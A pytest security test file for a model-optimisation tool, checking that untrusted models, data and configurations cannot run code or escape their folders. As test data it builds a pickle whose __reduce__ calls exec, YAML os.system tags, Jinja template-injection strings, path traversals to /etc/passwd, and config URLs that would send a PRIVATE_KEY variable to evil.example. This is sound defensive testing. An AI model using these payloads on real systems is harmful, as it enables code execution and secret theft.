"""A stranger's configuration, model and data: reading, checking and planning run nothing of it, and stay small."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from olivine.config import load
from olivine.config.schema import DataConfig
from olivine.data.bounds import TooLong, bounded
from olivine.data.chat import render_chat
from olivine.data.formats import Row
from olivine.errors import ConfigError, DataError, ModelError, OlivineError
from olivine.models.checkpoint import read_checkpoint
from olivine.models.external_data import check_external_data, external_files
from olivine.models.hub import locate


class Trap:
    """Unpickling it, or running the code beside it, makes the file ``sprung``."""

    def __init__(self, sprung: Path) -> None:
        self.sprung = sprung
        self.code = f"import pathlib\npathlib.Path({str(sprung)!r}).write_text('x')\n"

    def __reduce__(self) -> Any:
        return exec, (self.code,)


@pytest.fixture
def trap(tmp_path: Path) -> Trap:
    return Trap(tmp_path / "sprung")


@pytest.fixture
def model(tmp_path: Path, pico_model: Path) -> Path:
    return Path(shutil.copytree(pico_model, tmp_path / "model"))


def plan(folder: Path, config: dict[str, Any], *arguments: str) -> subprocess.CompletedProcess[str]:
    (folder / "workflow.json").write_text(json.dumps(config))
    return subprocess.run(
        [sys.executable, "-m", "olivine", "plan", "workflow.json", *arguments],
        cwd=folder,
        env=os.environ,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_a_plan_runs_nothing_that_lies_in_the_model_or_beside_the_data(tmp_path: Path, model: Path, trap: Trap) -> None:
    config = json.loads((model / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "modeling_trap.C", "AutoModelForCausalLM": "modeling_trap.M"}
    (model / "config.json").write_text(json.dumps(config))
    tokenizer = json.loads((model / "tokenizer_config.json").read_text())
    tokenizer["auto_map"] = {"AutoTokenizer": ["tokenization_trap.T", None]}
    (model / "tokenizer_config.json").write_text(json.dumps(tokenizer))
    for name in ("modeling_trap.py", "tokenization_trap.py", "__init__.py", "setup.py"):
        (model / name).write_text(trap.code)
    (model / "pytorch_model.bin").write_bytes(pickle.dumps(trap))
    (model / "training_args.bin").write_bytes(pickle.dumps(trap))
    data = tmp_path / "data"
    data.mkdir()
    (data / "data.py").write_text(trap.code)
    (data / "sitecustomize.py").write_text(trap.code)
    (data / "train.jsonl").write_text('{"messages": [{"role": "user", "content": "hi"}]}\n' * 8)
    workflow = {
        "input_model": {"model_path": "model", "load_kwargs": {"trust_remote_code": True}},
        "data_configs": [{"name": "d", "data_files": "data/train.jsonl", "chat_template": True, "max_seq_len": 64}],
        "passes": {
            "lora": {"type": "LoRA", "target_modules": ["o_proj"], "train_data_config": "d"},
            "merge": {"type": "MergeAdapterWeights"},
            "b": {"type": "ModelBuilder", "precision": "int4"},
        },
    }
    plan(tmp_path, {**workflow, "data_configs": [{**workflow["data_configs"][0], "user_script": "data/data.py"}]})
    shown = plan(tmp_path, workflow, "--show-data", "1")
    assert not trap.sprung.exists()
    assert "AutoTokenizer" not in shown.stdout
    done = plan(tmp_path, workflow, "--trust-remote-code")
    assert not trap.sprung.exists()
    assert done.returncode == 0, done.stderr
    assert "code that comes with the model will run: __init__.py, modeling_trap.py" in done.stdout
    assert "sha256" in done.stdout


def test_weights_that_are_pickles_are_refused_with_the_command_that_converts_them(model: Path, trap: Trap) -> None:
    (model / "model.safetensors").unlink()
    (model / "pytorch_model.bin").write_bytes(pickle.dumps(trap))
    with pytest.raises(ModelError, match=r"pickles.*save_pretrained"):
        read_checkpoint(model)
    assert not trap.sprung.exists()


@pytest.mark.parametrize(
    "text",
    [
        "input_model: !!python/object/apply:os.system ['touch sprung']\n",
        "input_model: !!python/name:os.system\n",
        "? !!python/object/new:os.system ['touch sprung']\n: 1\n",
        "input_model: !include /etc/passwd\n",
    ],
)
def test_yaml_tags_make_nothing(tmp_path: Path, text: str) -> None:
    (tmp_path / "w.yaml").write_text(text)
    with pytest.raises(ConfigError) as caught:
        load(tmp_path / "w.yaml")
    assert "root:" not in str(caught.value)
    assert not Path("sprung").exists()


TEMPLATES = {
    "reaches out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "calls the system": "{{ cycler.__init__.__globals__.os.system('touch sprung') }}",
    "reads a file": "{% include '/etc/passwd' %}",
    "loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "fills memory": "{{ 'x' * 9000000000 }}",
}


@pytest.mark.parametrize("kind", TEMPLATES)
def test_a_chat_template_cannot_reach_out_loop_or_fill_memory(
    pico_model: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from transformers import AutoTokenizer

    monkeypatch.setattr(bounded.__wrapped__, "__defaults__", (1.0, 2**30))
    tokenizer = AutoTokenizer.from_pretrained(pico_model)
    row = Row({"messages": [{"role": "user", "content": "hi"}]}, "d.jsonl", 1)
    config = DataConfig(name="d", chat_template=TEMPLATES[kind])
    with pytest.raises(DataError, match="chat template refuses"):
        render_chat(config, row, tokenizer, completion_only=False)
    assert not Path("sprung").exists()


def test_bounds_are_gone_afterwards() -> None:
    import resource
    import time

    before = resource.getrlimit(resource.RLIMIT_AS)
    with pytest.raises(TooLong), bounded(0.05):
        time.sleep(5)
    assert resource.getrlimit(resource.RLIMIT_AS) == before
    time.sleep(0.1)


@pytest.mark.parametrize("name", ["tokenizer.json", "config.json", "tokenizer_config.json", "chat_template.jinja"])
def test_a_file_of_two_gigabytes_is_refused_unread(model: Path, name: str) -> None:
    with open(model / name, "ab") as file:
        file.truncate(2_000_000_000)
    with pytest.raises(ModelError, match=f"{name} has 2,000,000,000 bytes"):
        read_checkpoint(model)


@pytest.mark.parametrize(
    ("name", "text"),
    [("config.json", "[" * 100_000), ("config.json", '{"a": ' + "1" * 5000 + "}"), ("config.json", "\0")],
)
def test_json_made_to_break_a_parser_is_an_error_of_the_model(model: Path, name: str, text: str) -> None:
    (model / name).write_text(text)
    with pytest.raises(ModelError):
        read_checkpoint(model)


@pytest.mark.parametrize("target", ["/etc/passwd", "../outside.json", "/dev/zero", "/proc/self/environ"])
def test_a_link_out_of_the_model_s_folder_is_not_followed(tmp_path: Path, model: Path, target: str) -> None:
    (tmp_path / "outside.json").write_text("{}")
    (model / "tokenizer.json").unlink()
    (model / "tokenizer.json").symlink_to(target)
    if target == "/dev/zero":  # a device is no file, and so no part of the model
        assert all(file.name != "tokenizer.json" for file in read_checkpoint(model).files)
        return
    with pytest.raises(ModelError, match="outside the model's folder"):
        read_checkpoint(model)


def test_links_into_the_hub_s_cache_are_followed(tmp_path: Path, pico_model: Path) -> None:
    repository = tmp_path / "models--org--pico"
    snapshot = repository / "snapshots" / ("0" * 40)
    shutil.copytree(pico_model, repository / "blobs")
    snapshot.mkdir(parents=True)
    for file in (repository / "blobs").iterdir():
        (snapshot / file.name).symlink_to(f"../../blobs/{file.name}")
    assert read_checkpoint(snapshot).config


@pytest.mark.parametrize("shard", ["../other.safetensors", "/etc/passwd", "a/b.safetensors", "pytorch_model.bin"])
def test_an_index_names_files_beside_it_only(model: Path, shard: str) -> None:
    (model / "model.safetensors").rename(model / "model-1.safetensors")
    (model / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"a": shard}}))
    with pytest.raises(ModelError, match="no safetensors file beside it"):
        read_checkpoint(model)


@pytest.mark.parametrize(
    ("model_id", "revision"),
    [("../../etc", None), ("org/../../etc", None), ("org/pico", "../../../../etc/passwd"), ("org/pico\0", None)],
)
def test_an_id_or_revision_cannot_lead_out_of_the_hub_s_cache(
    model_id: str, revision: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    with pytest.raises(OlivineError):
        locate(model_id, revision)


def onnx_file(folder: Path, location: str, *, inside: str = "initializer") -> Path:
    """Write an ONNX file with one tensor whose data lies at ``location``."""
    import onnx
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=1, dims=[1], data_location=TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value=location)
    tensor.external_data.add(key="length", value="4")
    nodes, initializers = [], [tensor]
    if inside == "node":
        nodes, initializers = [helper.make_node("Constant", [], ["w"], value=tensor)], []
    graph = helper.make_graph(nodes, "g", [], [helper.make_tensor_value_info("w", 1, [1])], initializers)
    folder.mkdir(exist_ok=True)
    (folder / "model.onnx").write_bytes(helper.make_model(graph).SerializeToString())
    assert onnx.load(folder / "model.onnx", load_external_data=False).graph.name == "g"
    return folder / "model.onnx"


@pytest.mark.parametrize("inside", ["initializer", "node"])
@pytest.mark.parametrize("location", ["../secret", "/dev/zero", "/etc/passwd", "C:\\x", "linked", "folder"])
def test_external_data_is_read_from_beside_the_onnx_file_only(tmp_path: Path, location: str, inside: str) -> None:
    file = onnx_file(tmp_path / "m", location, inside=inside)
    (tmp_path / "secret").write_bytes(b"1234")
    if location == "linked":
        (tmp_path / "m" / "linked").symlink_to(tmp_path / "secret")
    (tmp_path / "m" / "folder").mkdir()
    assert external_files(file) == {location}
    with pytest.raises(ModelError, match=r"takes its weights from|outside the model's folder"):
        read_checkpoint(tmp_path / "m")


def test_external_data_beside_the_file_is_right_and_a_cut_file_is_told(tmp_path: Path) -> None:
    file = onnx_file(tmp_path / "m", "model.onnx.data")
    check_external_data(file)
    file.write_bytes(file.read_bytes()[:-20])
    with pytest.raises(ModelError, match="no whole ONNX file"):
        check_external_data(file)


def test_a_genai_folder_cannot_name_a_decoder_elsewhere(tmp_path: Path) -> None:
    (tmp_path / "genai_config.json").write_text('{"model": {"decoder": {"filename": "../../model.onnx"}}}')
    with pytest.raises(ModelError, match="no file beside it"):
        read_checkpoint(tmp_path)


def test_names_of_passes_and_data_cannot_lead_anywhere(tmp_path: Path, model: Path) -> None:
    done = plan(
        tmp_path,
        {
            "input_model": {"model_path": "model"},
            "data_configs": [{"name": "../../d", "data_files": "x.jsonl"}],
            "passes": {"../../../escape": {"type": "ModelBuilder", "precision": "int4"}},
        },
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert sorted(each.name for each in tmp_path.iterdir()) == ["model", "workflow.json"]


def test_code_of_another_repository_does_not_run_for_a_model_s_sake(tmp_path: Path, model: Path) -> None:
    config = json.loads((model / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "m.C", "AutoModelForCausalLM": "evil/code--modeling.M"}
    (model / "config.json").write_text(json.dumps(config))
    workflow = {"input_model": {"model_path": "model"}, "passes": {"b": {"type": "ModelBuilder", "precision": "int4"}}}
    refused = plan(tmp_path, workflow, "--trust-remote-code")
    assert refused.returncode == 2
    assert "takes code from another repository: evil/code--modeling.M" in " ".join(refused.stderr.split())
    assert plan(tmp_path, workflow).returncode == 0


def test_code_in_a_subfolder_counts_in_the_digest(model: Path) -> None:
    from olivine.models.remote_code import describe_code

    (model / "modeling.py").write_text("from .inner import x")
    (model / "inner").mkdir()
    (model / "inner" / "x.py").write_text("1")
    before = describe_code(model)
    assert before.startswith("inner/x.py, modeling.py (sha256 ")
    (model / "inner" / "x.py").write_text("2")
    assert describe_code(model) != before


def test_a_script_that_may_run_is_shown_with_its_digest_and_runs_only_as_it_was_shown(
    tmp_path: Path, model: Path
) -> None:
    import hashlib

    from olivine.evaluate.custom import check_scripts

    script = tmp_path / "metric.py"
    script.write_text("def score(model):\n    return 1.0\n")
    metric = {
        "type": "custom",
        "user_config": {"user_script": "metric.py", "evaluate_func": "score"},
        "sub_types": [{"name": "score", "higher_is_better": True}],
    }
    workflow = {
        "input_model": {"model_path": "model"},
        "evaluators": {"e": {"metrics": [metric]}},
        "engine": {"evaluator": "e"},
    }
    assert plan(tmp_path, workflow).returncode == 3
    shown = plan(tmp_path, workflow, "--allow-script", "metric.py")
    digest = hashlib.sha256(script.read_bytes()).hexdigest()
    assert shown.returncode == 0, shown.stderr
    assert f"code of a metric will run: metric.py (sha256 {digest[:16]})" in shown.stdout
    metrics = [{"index": 0, "params": {"user_config": {"user_script": str(script)}}}]
    check_scripts(metrics, {"0": digest})
    script.write_text("import os\n")
    with pytest.raises(OlivineError, match="has changed since the plan was made"):
        check_scripts(metrics, {"0": digest})


def test_an_adapter_that_is_a_pickle_is_refused(tmp_path: Path, model: Path, trap: Trap) -> None:
    adapter = tmp_path / "adapter"
    adapter.mkdir()
    (adapter / "adapter_config.json").write_text('{"peft_type": "LORA", "r": 4}')
    (adapter / "adapter_model.bin").write_bytes(pickle.dumps(trap))
    done = plan(
        tmp_path,
        {
            "input_model": {"model_path": "model", "adapter_path": "adapter"},
            "passes": {"merge": {"type": "MergeAdapterWeights"}},
        },
    )
    assert done.returncode == 2
    said = " ".join(done.stderr.split())
    assert "pickles (adapter_model.bin)" in said
    assert "weights_only=True" in said
    assert not trap.sprung.exists()


def test_an_mlflow_model_cannot_link_to_a_checkpoint_elsewhere(tmp_path: Path, model: Path) -> None:
    folder = tmp_path / "mlflow"
    folder.mkdir()
    (folder / "MLmodel").write_text("flavors: {}\n")
    (folder / "model").symlink_to(model, target_is_directory=True)
    with pytest.raises(ModelError, match="outside the model's folder"):
        read_checkpoint(folder)


def test_the_command_that_converts_pickles_runs_no_code_of_theirs(tmp_path: Path, model: Path, trap: Trap) -> None:
    import shlex

    import torch
    from safetensors.torch import load_file

    tensors = load_file(model / "model.safetensors")
    (model / "model.safetensors").unlink()
    torch.save(tensors, model / "pytorch_model.bin")
    with pytest.raises(ModelError) as caught:
        read_checkpoint(model)
    command = "python -c " + caught.value.problems[0].remedy.partition("python -c ")[2].partition(" (or take")[0]
    program = shlex.split(command)[2].replace("'IN'", repr(str(model))).replace("'OUT'", repr(str(tmp_path / "out")))
    subprocess.run([sys.executable, "-c", program], check=True, capture_output=True, timeout=120)
    assert set(read_checkpoint(tmp_path / "out").tensors) == set(tensors)
    (model / "pytorch_model.bin").write_bytes(pickle.dumps(trap))
    failed = subprocess.run([sys.executable, "-c", program], capture_output=True, timeout=120)
    assert failed.returncode != 0
    assert not trap.sprung.exists()


@pytest.mark.parametrize(
    ("changes", "what"),
    [
        ({"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}, "has the runtime load code"),
        ({"vision": {"session_options": {"custom_ops_library": "evil.dll"}}}, "has the runtime load code"),
        (
            {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "./evil.so"}}]}}},
            "has the runtime load code",
        ),
        (
            {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "evil.so"}}]}}},
            "has the runtime load code",
        ),
        ({"embedding": {"filename": "../../embedding.onnx"}}, "is no file beside it"),
        ({"decoder": {"pipeline": [{"a": {"filename": "/etc/passwd"}}]}}, "is no file beside it"),
    ],
)
def test_a_genai_folder_cannot_bring_machine_code_or_read_elsewhere(
    tmp_path: Path, changes: dict[str, Any], what: str
) -> None:
    (tmp_path / "model.onnx").touch()
    (tmp_path / "evil.so").touch()
    config = {"model": {"decoder": {"filename": "model.onnx"}} | changes}
    config["model"]["decoder"].setdefault("filename", "model.onnx")
    (tmp_path / "genai_config.json").write_text(json.dumps(config))
    with pytest.raises(ModelError, match=what):
        read_checkpoint(tmp_path)


def test_an_adapter_cannot_have_a_module_imported_or_others_fetched(tmp_path: Path) -> None:
    for key, value in {"megatron_config": {"a": 1}, "adapters": {"x": "evil/adapter"}}.items():
        config = {"peft_type": "LORA", "r": 4, "megatron_core": "antigravity", key: value}
        (tmp_path / "adapter_config.json").write_text(json.dumps(config))
        with pytest.raises(ModelError, match=f"{key}, which is not taken from an adapter"):
            read_checkpoint(tmp_path)


@pytest.mark.parametrize(
    ("section", "value"),
    [
        ("data_configs", [{"name": "d", "data_files": "https://evil.example/x?${env:PRIVATE_KEY}"}]),
        ("input_model", {"model_path": "https://${env:PRIVATE_KEY}.evil.example/model"}),
        ("engine", {"shared_cache": "s3://evil-${env:PRIVATE_KEY}/x"}),
        ("tracking", {"mlflow": "https://evil.example", "experiment": "${env:PRIVATE_KEY}"}),
    ],
)
def test_a_configuration_cannot_send_what_the_environment_holds_where_it_likes(
    tmp_path: Path, section: str, value: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PRIVATE_KEY", "abcdefgh12345678")
    workflow = {"input_model": {"model_path": "m"}, section: value}
    (tmp_path / "w.json").write_text(json.dumps(workflow))
    with pytest.raises(ConfigError, match="PRIVATE_KEY would be sent to an address that the configuration says"):
        load(tmp_path / "w.json")


def test_a_whole_address_from_the_environment_is_the_user_s_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRAIN_URL", "https://x.blob.core.windows.net/c/t.jsonl?sig=abcdefgh12345678")
    monkeypatch.setenv("BASE64", "/abcdefgh12345678==")
    workflow = {
        "input_model": {"model_path": "m"},
        "data_configs": [
            {"name": "d", "data_files": "${env:TRAIN_URL}", "text_template": "${env:BASE64} {text}"},
        ],
    }
    (tmp_path / "w.json").write_text(json.dumps(workflow))
    assert load(tmp_path / "w.json").workflow.data_configs[0].data_files == os.environ["TRAIN_URL"]
    from olivine.redaction import redact

    assert redact("it is /abcdefgh12345678==") == "it is ${env:BASE64}"


@pytest.mark.parametrize("start", [["-P", "-m", "olivine"], ["-m", "olivine"]])
def test_what_lies_in_the_current_folder_is_not_imported(
    tmp_path: Path, model: Path, trap: Trap, start: list[str]
) -> None:
    names = ["queue", "psutil", "torch", "yaml", "pydantic", "json", "numpy", "onnx", "transformers"]
    for name in [*names, "olivine"] if "-P" in start else names:
        (tmp_path / f"{name}.py").write_text(trap.code)
    config = {
        "input_model": {"model_path": "model"},
        "passes": {"q": {"type": "Quantize", "bits": 4, "group_size": 32}},
        "engine": {"cache_dir": "cache", "output_dir": "out"},
    }
    (tmp_path / "workflow.json").write_text(json.dumps(config))
    done = subprocess.run(
        [sys.executable, *start, "run", "workflow.json"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert not trap.sprung.exists()
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("num_hidden_layers", 10**12),
        ("num_hidden_layers", "x"),
        ("num_hidden_layers", [1]),
        ("num_attention_heads", 0),
        ("num_key_value_heads", "x"),
        ("hidden_size", True),
        ("quantization_config", 7),
        ("quantization_config", {"quant_method": ["gptq"]}),
        ("architectures", 5),
        ("text_config", {"num_hidden_layers": 10**12}),
    ],
)
def test_counts_that_are_none_are_an_error_of_the_model(model: Path, key: str, value: Any) -> None:
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps(config | {key: value}))
    with pytest.raises(ModelError, match=r"in config\.json is .* and must be"):
        read_checkpoint(model)


def test_counts_for_every_layer_are_right(model: Path) -> None:
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps(config | {"num_key_value_heads": [2, 2], "head_dim": None}))
    assert read_checkpoint(model).config["num_key_value_heads"] == [2, 2]


def test_a_template_cannot_make_texts_as_long_as_it_likes() -> None:
    from olivine.data.templates import Template, _parse

    assert isinstance(_parse("text_template", "{text:>80.20}"), Template)
    with pytest.raises(ConfigError, match="makes every text as long as that"):
        _parse("text_template", "{text:>9999999999}")


@pytest.mark.parametrize("name", ["../../../evil.onnx", "/tmp/evil.onnx", "a/b.onnx", "genai_config.json", 5])
def test_a_graph_is_written_into_the_result_only(tmp_path: Path, model: Path, name: Any) -> None:
    passes = {"b": {"type": "ModelBuilder", "precision": "int4", "extra_options": {"filename": name}}}
    done = plan(tmp_path, {"input_model": {"model_path": "model"}, "passes": passes})
    assert done.returncode == 2, done.stdout
    assert "the graph cannot be called" in " ".join(done.stderr.split())


@pytest.mark.parametrize(
    "text", ["data_configs.\u00b2.x=1", "x=2026-13-45", "a=[[[[[[", ".".join("a" * 5000) + "=1", "engine=&a [*a]"]
)
def test_what_is_set_on_the_command_line_is_an_error_or_not_but_no_defect(tmp_path: Path, text: str) -> None:
    (tmp_path / "w.json").write_text('{"input_model": {"model_path": "m"}, "data_configs": [{"name": "d"}]}')
    with pytest.raises(ConfigError):
        load(tmp_path / "w.json", overrides=[text])
